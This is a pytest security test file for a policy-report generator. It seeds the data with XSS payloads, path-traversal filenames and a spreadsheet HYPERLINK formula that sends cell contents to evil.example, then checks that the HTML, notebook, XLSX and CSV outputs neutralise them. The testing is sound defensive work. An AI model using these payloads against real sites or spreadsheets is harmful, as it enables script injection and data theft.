"""A full report from a copy of data/ whose every text field holds a script tag, an image with an
onerror handler, an SVG with onload, a spreadsheet formula and a mathtext fragment (issue 10,
cases 1, 2 and the mathtext part of 11): no tag from the data is live in any page, no cell of any
sheet is a formula, no CSV cell starts a formula, the charts draw, and the run exits 0.

Also the rendering edge on its own: ``sanitize_html`` and ``neutralise_formula``."""

from __future__ import annotations

import csv
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest
import yaml

from jnpolicy_analysis.cli import main
from jnpolicy_analysis.publish.presentation import neutralise_formula, sanitize_html

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
PAYLOAD = (
    f"{FORMULA}<script>alert(1)</script><img src=x onerror=alert(document.domain)>"
    "<svg onload=alert(3)>$\\frac$ "
)
# every key whose value is text shown to a reader (the others are names, codes and links between
# files, which the schemas already restrict to plain identifiers; a fund name must also have a
# label in charts/labels.py, so a poisoned one fails the run: see test_table_cells_are_escaped)
TEXT_KEYS = {
    "title_zh", "title_en", "description", "description_zh", "description_en", "metric_zh",
    "metric_en", "funding_quote", "notes", "note", "issuer", "responsible",
    "quote", "source", "reference",
}  # fmt: skip


def _poison(value, key=None):
    if isinstance(value, dict):
        return {k: _poison(v, k) for k, v in value.items()}
    if isinstance(value, list):
        return [_poison(v, key) for v in value]
    if isinstance(value, str) and key in TEXT_KEYS:
        if key == "source":  # keeps its "public:" / "assumption:" prefix
            head, _, rest = value.partition(":")
            return f"{head}: {PAYLOAD}{rest}"
        return PAYLOAD + value
    return value


def _poison_data(data: Path) -> None:
    for path in data.rglob("*.yaml"):
        doc = yaml.safe_load(path.read_text(encoding="utf-8"))
        path.write_text(yaml.safe_dump(_poison(doc), allow_unicode=True), encoding="utf-8")
    obs = data / "targets" / "observations.csv"
    with obs.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    i = rows[0].index("source")
    for row in rows[1:]:
        if not row or row[0].lstrip().startswith("#") or len(row) <= i:  # comment or blank line
            continue
        head, _, rest = row[i].partition(":")
        row[i] = f"{head}: {PAYLOAD}{rest}"
    with obs.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)


def _texts_hold_the_quotes(data: Path) -> None:
    """validate checks every quote against its document's own text: give each document a text
    that is its part of the gazette followed by its (poisoned) quotes, listed in sources.yaml."""
    import copy
    import hashlib

    from jnpolicy_analysis.inputs.draft import document_text

    quotes: dict[str, list[str]] = {}

    def walk(node, doc):
        if isinstance(node, dict):
            for k, v in node.items():
                if k in ("quote", "funding_quote") and isinstance(v, str):
                    quotes.setdefault(doc, []).append(v)
                walk(v, doc)
        elif isinstance(node, list):
            for v in node:
                walk(v, doc)

    for kind in ("policies", "targets"):
        for path in (data / kind).glob("*.yaml"):
            doc = yaml.safe_load(path.read_text(encoding="utf-8"))
            if "doc" in doc:
                walk(doc, doc["doc"])
    listing_path = data / "sources" / "sources.yaml"
    listing = yaml.safe_load(listing_path.read_text(encoding="utf-8"))
    gazette = listing["sources"][0]
    text = (data / "sources" / gazette["file"]).read_text(encoding="utf-8")
    entries = []
    for i, doc in enumerate(gazette["documents"]):
        body = document_text(text, doc) + "\n" + "\n".join(quotes.get(doc, [])) + "\n"
        name = f"doc_{i}.txt"
        (data / "sources" / name).write_text(body, encoding="utf-8")
        digest = hashlib.sha256((data / "sources" / name).read_bytes()).hexdigest()
        # a copy per entry: shared objects would be written as YAML aliases, which inputs refuse
        entries.append(
            {**copy.deepcopy(gazette), "file": name, "documents": [doc], "sha256": digest}
        )
    listing_path.write_text(yaml.safe_dump({"sources": entries}, allow_unicode=True), "utf-8")


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, list]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts.append(data)


def _live_payload(page: str) -> list[str]:
    """What of the payload is live markup in ``page``."""
    parser = _Tags()
    parser.feed(page)
    found = []
    for tag, attrs in parser.tags:
        for name, value in attrs:
            if name.startswith("on"):
                found.append(f"<{tag} {name}={value}>")
        if tag == "img" and dict(attrs).get("src") == "x":
            found.append("<img src=x>")
        if tag == "svg" and any(n == "onload" for n, _ in attrs):
            found.append("<svg onload>")
    found += [s for s in parser.scripts if "alert(" in s]
    for raw in ("<script>alert(1)", "<img src=x", "<svg onload"):
        if raw in page:
            found.append(raw)
    return found


@pytest.fixture(scope="module")
def hostile_report(made_once):
    """A report of central from poisoned data, made once for the session."""

    def make(root: Path) -> dict:
        import shutil

        from jnpolicy_analysis.paths import DATA_DIR

        data = root / "data"
        shutil.copytree(DATA_DIR, data)
        _poison_data(data)
        _texts_hold_the_quotes(data)
        assert main(["validate", str(data)]) == 0
        out = root / "reports"
        args = ["report", "--scenario", "central", "--draws", "100", "--as-of", "2026-12-01"]
        code = main([*args, "--data", str(data), "--out", str(out), "--quiet"])
        return {"code": code, "day": str(out / "2026-12-01")}

    made = made_once("hostile-report", make)
    return made["code"], Path(made["day"])


@pytest.mark.slow
def test_report_from_hostile_data_exits_0(hostile_report):
    code, day = hostile_report
    assert code == 0
    assert (day / "index.html").is_file()


@pytest.mark.slow
def test_no_tag_from_the_data_is_live_in_any_page(hostile_report):
    _, day = hostile_report
    pages = sorted(day.rglob("*.html"))
    assert len(pages) >= 5
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert _live_payload(text) == [], page.name
        # nor any script from the web (MathJax would typeset the data's "$...$" as formulas)
        assert "<script src=" not in text and "mathjax" not in text.lower(), page.name
    # every chart has alt text (its title), escaped like the rest
    briefing = (day / "briefing" / "00_briefing.html").read_text(encoding="utf-8")
    parser = _Tags()
    parser.feed(briefing)
    images = [dict(attrs) for tag, attrs in parser.tags if tag == "img"]
    assert images and all(i.get("alt") for i in images)
    # the data did reach the pages, shown as text (the platform measures and the scenario table)
    for page in (
        day / "central" / "02_platform_economy.html",
        day / "briefing" / "00_briefing.html",
    ):
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.read_text(encoding="utf-8")


@pytest.mark.slow
def test_executed_notebooks_hold_no_live_markup_either(hostile_report):
    _, day = hostile_report
    for nb in day.rglob("*.ipynb"):
        if "inputs" in nb.parts:
            continue
        assert _live_payload(nb.read_text(encoding="utf-8").replace("\\n", "\n")) == [], nb.name


@pytest.mark.slow
def test_no_formula_cell_in_any_sheet(hostile_report):
    _, day = hostile_report
    books = [p for p in day.rglob("*.xlsx") if "inputs" not in p.parts]
    assert books
    texts = []
    for book in books:
        wb = openpyxl.load_workbook(book)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (book.name, ws.title, cell.coordinate)
                    if isinstance(cell.value, str):
                        texts.append(cell.value)
    assert any(t.startswith(FORMULA) for t in texts)  # kept as the text it is


@pytest.mark.slow
def test_no_csv_cell_starts_a_formula(hostile_report):
    _, day = hostile_report
    cells = []
    for path in day.rglob("*.csv"):
        if "inputs" in path.parts:
            continue
        with path.open(encoding="utf-8-sig", newline="") as fh:
            cells += [c for row in csv.reader(fh) for c in row]
    assert cells

    def number(c):
        try:
            float(c)
        except ValueError:
            return False
        return True

    # negative numbers are numbers; any text starting a formula is neutralised
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number(c)]
    assert any(c.startswith("'" + FORMULA) for c in cells)


@pytest.mark.slow
def test_charts_with_mathtext_in_titles_are_drawn(hostile_report):
    _, day = hostile_report
    assert list((day / "central" / "figures").glob("*.png"))
    assert list((day / "briefing" / "figures").glob("*.png"))


# --------------------------------------------------------------------------- the edge itself


def test_table_cells_are_escaped():
    from types import SimpleNamespace

    import pandas as pd

    from jnpolicy_analysis.publish.notebook import NotebookRun, ReportOutput

    df = pd.DataFrame({"资金来源": [PAYLOAD + "市级"], "成本（万元）": [1.5]})
    page = NotebookRun.show(SimpleNamespace(out=ReportOutput(None, "t")), df).to_html()
    assert _live_payload(page) == []
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


@pytest.mark.parametrize(
    "fragment, live",
    [
        ("<script>alert(1)</script>", "<script"),
        ('<img src=x onerror="alert(1)">', "<img"),
        ("<svg onload=alert(3)>", "<svg"),
        ('<a href="javascript:alert(1)">x</a>', "<a "),
        ('<td onclick="alert(1)">x</td>', "onclick"),
        ("<iframe src=//evil></iframe>", "<iframe"),
        ("<style>x{background:url(//evil)}</style>", "url("),
    ],
)
def test_sanitize_html_leaves_nothing_live(fragment, live):
    out = sanitize_html(f"<table><tr><td>a</td></tr></table>{fragment}")
    assert live not in out
    assert out.startswith("<table><tr><td>a</td></tr></table>")


def test_sanitize_html_keeps_a_styled_table():
    styled = (
        '<style type="text/css">\n#T_1 th {\n  text-align: left;\n}\n</style>\n'
        '<table id="T_1"><thead><tr><th class="col_heading">成本（万元）</th></tr></thead>'
        "<tbody><tr><td>1,234.5 &amp; &lt;b&gt;</td></tr></tbody></table>"
    )
    assert sanitize_html(styled) == styled


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_formula_starts_are_neutralised(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["措施", "1,234", 5.0, None, "a=b"])
def test_other_values_are_kept(value):
    assert neutralise_formula(value) == value


@pytest.mark.parametrize(
    "file, kept",
    [
        ("figures/cost_fan.png", True),
        ("../central/figures/cost_fan.png", False),  # outside the page's own figures/
        ("/etc/passwd", False),
        ('figures/x.png" onerror="alert(1)', False),
        ("figures/missing.png", False),  # not written by the run
        ("figures/cost_fan.svg", False),
        (["figures/cost_fan.png"], False),
    ],
)
def test_a_figure_file_is_kept_only_when_it_is_the_runs_own_png(tmp_path, file, kept):
    import nbformat

    from jnpolicy_analysis.publish.runner import figure_files

    (tmp_path / "figures").mkdir()
    (tmp_path / "figures" / "cost_fan.png").write_bytes(b"\x89PNG")
    (tmp_path / "figures" / "cost_fan.svg").write_text("<svg/>")
    nb = nbformat.v4.new_notebook()
    output = nbformat.v4.new_output(
        "display_data",
        data={"image/png": "iVBORw0KGgo="},
        metadata={"image/png": {"file": file, "alt": "t"}},
    )
    nb.cells.append(nbformat.v4.new_code_cell(outputs=[output]))
    figure_files(nb, tmp_path)
    md = nb.cells[0].outputs[0].metadata["image/png"]
    assert ("file" in md) is kept
    assert md["alt"] == "t"
